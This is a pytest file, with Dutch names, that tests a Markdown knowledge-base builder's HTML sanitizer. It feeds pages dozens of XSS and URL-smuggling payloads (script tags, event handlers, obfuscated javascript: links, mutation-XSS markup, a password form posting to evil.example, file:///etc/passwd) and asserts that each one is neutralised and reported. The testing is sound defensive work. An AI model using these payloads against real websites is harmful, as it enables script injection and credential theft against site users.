"""What the text of a page could make a browser do."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.support.hostile import (
    FRONT,
    PICTURE,
    Browser,
    built,
    dangers,
    findings_of,
    found,
    html_of,
    knowledge_base,
)

SCRIPTS = {
    "script": ("<script>alert(1)</script>", "V01"),
    "gebeurtenis": ('<p onclick="alert(1)">x</p>', "V01"),
    "svg": ("<svg onload=alert(1)></svg>", "V01"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "V01"),
    "object": ('<object data="https://evil.example/"></object>', "V01"),
    "meta": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "V01"),
    "basis": ('<base href="https://evil.example/">', "V01"),
    "stijl": ('<style>@import "https://evil.example/x.css"</style>', "V01"),
    "formulier": ('<form action="https://evil.example/"><input name="wachtwoord"></form>', "V01"),
    "stijlattribuut": ('<div style="position:fixed;inset:0">x</div>', "V03"),
    "koppeling": ('<link rel="stylesheet" href="https://evil.example/x.css">', "V03"),
    "knop": ('<button popovertarget="x">x</button><div id="x" popover>x</div>', "V03"),
    "video": ('<video src="https://evil.example/x" poster="https://evil.example/y"></video>', "V03"),
    "bronset": ('<img src="a.png" alt="x" srcset="https://evil.example/x 2x">', "V03"),
    "ping": ('<a href="index.md" ping="https://evil.example/">x</a>', "V03"),
    "achtergrond": ('<table background="https://evil.example/"><tr><td>x</td></tr></table>', "V03"),
    "eigen-element": ('<kb-term><a data-definition="nep" href="index.md">x</a></kb-term>', "V03"),
    "attributenlijst": ('*x*{onclick="alert(1)"}', "V01"),
    "attributenlijst-stijl": ('*x*{style="position:fixed" .kb-term data-definition="nep"}', "V03"),
    "tabblad": ('=== "<img src=x alt=x onerror=alert(1)>"\n    x', "V01"),
    "kader": ('!!! note "<script>alert(1)</script>"\n    x', "V01"),
    "uitklap": ('??? note "<img src=x alt=x onerror=alert(1)>"\n    x', "V01"),
    "voetnoot": ("x[^1]\n\n[^1]: <script>alert(1)</script>\n", "V01"),
    "voetnootnaam": ('x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y', "V03"),
    "tabel": ("| a | b |\n|---|---|\n| <script>x</script> | y |", "V01"),
    "noscript": ('<noscript><p title="</noscript><img src=x alt=x onerror=alert(1)>">', "V03"),
    "mathml": ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1&gt;">', "V01"),
    "sjabloon": ("<template><script>alert(1)</script></template>", "V01"),
    "javascript": ("[x](javascript:alert(1))", "V02"),
    "javascript-hoofdletters": ("[x](JaVaScRiPt:alert(1))", "V02"),
    "javascript-regel": ("[x](java\nscript:alert(1))", "V02"),
    "javascript-entiteit": ("[x](java&#10;script:alert(1))", "V02"),
    "javascript-dubbelepunt": ("[x](javascript&colon;alert(1))", "V02"),
    "javascript-letter": ("[x](&#106;avascript:alert(1))", "V02"),
    "javascript-tab": ('<a href="javascript&Tab;:alert(1)">x</a>', "V02"),
    "javascript-definitie": ("[x]\n\n[x]: javascript:alert(1)", "V02"),
    "vbscript": ("[x](vbscript:msgbox)", "V02"),
    "data": ("[x](data:text/html,x)", "V02"),
    "bestand": ("[x](file:///etc/passwd)", "V02"),
    "zonder-schema": ("[x](//evil.example/)", "V02"),
    "backslashes": ("[x](/\\evil.example/)", "V02"),
    "tab-in-adres": ('<a href="/&#9;/evil.example/">x</a>', "V02"),
    "beeld-elders": ("![x](https://evil.example/p.png)", "V07"),
    "beeld-zonder-schema": ("![x](//evil.example/p.png)", "V02"),
    "beeld-http": ("![x](http:evil.example/p.png)", "V07"),
    "beeld-data": ("![x](data:image/svg+xml,x)", "V02"),
    "beeld-html": ('<img alt="x" src=" https:evil.example/x">', "V07"),
}


def test_no_text_of_a_page_makes_a_browser_run_or_fetch_anything(tmp_path: Path) -> None:
    pages = {f"docs/{name}.md": f"{FRONT}\n{body}\n" for name, (body, _) in SCRIPTS.items()}
    root = knowledge_base(tmp_path / "kb", {**pages, "docs/a.png": PICTURE})
    assert dangers(built(root)) == {}


def test_every_attempt_is_a_finding_in_its_own_file(tmp_path: Path) -> None:
    pages = {f"docs/{name}.md": f"{FRONT}\n{body}\n" for name, (body, _) in SCRIPTS.items()}
    known = found(knowledge_base(tmp_path, {**pages, "docs/a.png": PICTURE}))
    missed = [name for name, (_, code) in SCRIPTS.items() if (f"docs/{name}.md", code) not in known]
    assert missed == []


def test_a_finding_points_at_the_line_and_column_of_the_attempt(tmp_path: Path) -> None:
    body = "Eerste regel.\n\nTekst <script>alert(1)</script>\n\nEn `<script>` in code, [x](javascript:alert(1)).\n"
    root = knowledge_base(tmp_path, {"docs/x.md": FRONT + body})
    places = {(one.code, one.line, one.column) for one in findings_of(root) if one.path == "docs/x.md"}
    assert places == {("V01", 6, 7), ("V02", 8, 28)}


_HOOK = '\n<p title=" tabindex=0 onfocus=alert(1) autofocus x=">y</p>'
FORGERIES = {
    "tien": '<p title="&#57344;term&#57345;" lang="nl">x &#57345;z&#57346;</p>' + _HOOK,
    "zestien": '<p title="&#xE000;term&#xe001;" lang="nl">x &#xE001z&#xE002</p>' + _HOOK,
    "nullen": '<p title="&#0057344;term&#x0e001;" lang="nl">x &#0057345;z&#X00E002;</p>' + _HOOK,
    "teken": '<p title="\ue000term\ue001" lang="nl">x \ue001z\ue002</p>' + _HOOK,
    "in-elkaar": '<p title="&#573&#57344;44;term&#573&#57344;45;">x</p>' + _HOOK,
}


@pytest.mark.parametrize("name", FORGERIES)
def test_a_mark_cannot_be_forged_to_shift_attributes(tmp_path: Path, name: str) -> None:
    site = built(knowledge_base(tmp_path / "kb", {"docs/x.md": f"{FRONT}\n{FORGERIES[name]}\n"}))
    assert dangers(site) == {}


def test_a_mark_cannot_be_forged_to_explain_other_words(tmp_path: Path) -> None:
    root = knowledge_base(
        tmp_path / "kb",
        {
            "docs/x.md": f"{FRONT}\n&#57344;term&#57345;byod&#57345;iets anders&#57346;\n\n"
            "&#57344;fact&#57345;abc&#57345;&#57346;\n",
            "docs/begrippen.md": '---\ntitle: "B"\nlayout: glossary\n---\n',
            "docs/begrippen.yml": "- term: byod\n  definitie: Eigen toestel.\n",
            "docs/feiten.yml": "- {id: abc, statement: s, value: 1, source: b, read: 2026-01-01, confidence: hoog}\n",
        },
    )
    page = html_of(built(root), "x")
    # The word byod itself is a term and may be explained; the words beside it never.
    assert re.findall(r'class="kb-term"[^>]*>([^<]*)<', page) in ([], ["byod"])
    assert "kb-fact" not in page


def test_a_fact_in_an_attribute_or_a_link_is_plain_text(tmp_path: Path) -> None:
    body = '![Bedrag [[feit:abc]] hier](a.png)\n\n[x](index.md "titel [[feit:abc]]")\n\n[som [[feit:abc]]](index.md)\n'
    root = knowledge_base(
        tmp_path / "kb",
        {
            "docs/x.md": f"{FRONT}\n{body}",
            "docs/a.png": PICTURE,
            "docs/feiten.md": '---\ntitle: "F"\nlayout: facts\n---\n',
            "docs/feiten.yml": "- {id: abc, statement: s, value: '10\" x', source: b, "
            "read: 2026-01-01, confidence: hoog}\n",
        },
    )
    page = Browser(html_of(built(root), "x"))
    picture = next(attributes for tag, attributes in page.elements if tag == "img")
    assert picture == {"alt": 'Bedrag 10" x hier', "src": "../a.png"}
    assert any(attributes.get("title") == 'titel 10" x' for tag, attributes in page.elements if tag == "a")
    assert not any("kb-fact__source" in attributes.get("class", "") for _, attributes in page.elements)
